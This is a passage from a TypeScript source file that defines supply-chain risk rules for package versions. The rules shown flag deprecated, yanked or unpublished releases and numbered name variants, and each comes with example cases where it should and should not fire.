      // A numbered family: one edit apart only in the number.
      { history: [], version: v('1.0.0'), context: { name: 'mcp-server-v2', earlierListedNames: ['mcp-server-v1'] } },
      { history: [], version: v('1.0.0'), context: { name: 'weather-10', earlierListedNames: ['weather-1'] } },
    ],
  },
  {
    id: 'version.deprecated',
    weight: 2,
    reason: 'The registry marks this version deprecated or yanked.',
    test: (version) => (version.facts.deprecated ? `deprecated: ${quote(version.facts.deprecated, 200)}` : null),
    fires: [
      { history: plain(2), version: v('1.0.2', { deprecated: 'Critical bug, use 1.0.3' }) },
      { history: [], version: v('0.2.0', { deprecated: 'yanked' }), context: { registry: 'pypi', name: 'acme-tool' } },
    ],
    quiet: [{ history: plain(2), version: v('1.0.2') }],
  },
  {
    id: 'version.removed',
    weight: 4,
    reason: 'The version is gone from the registry: unpublished after it was read.',
    test: (version, context) => (context.removed ? `${version.version} no longer answers from the registry` : null),
    fires: [{ history: plain(2), version: v('1.0.2'), context: { removed: true } }],
    quiet: [{ history: plain(2), version: v('1.0.2') }],
  },
]

export const SUPPLY_RULES_BY_ID: ReadonlyMap<string, SupplyRule> = new Map(SUPPLY_RULES.map((rule) => [rule.id, rule]))
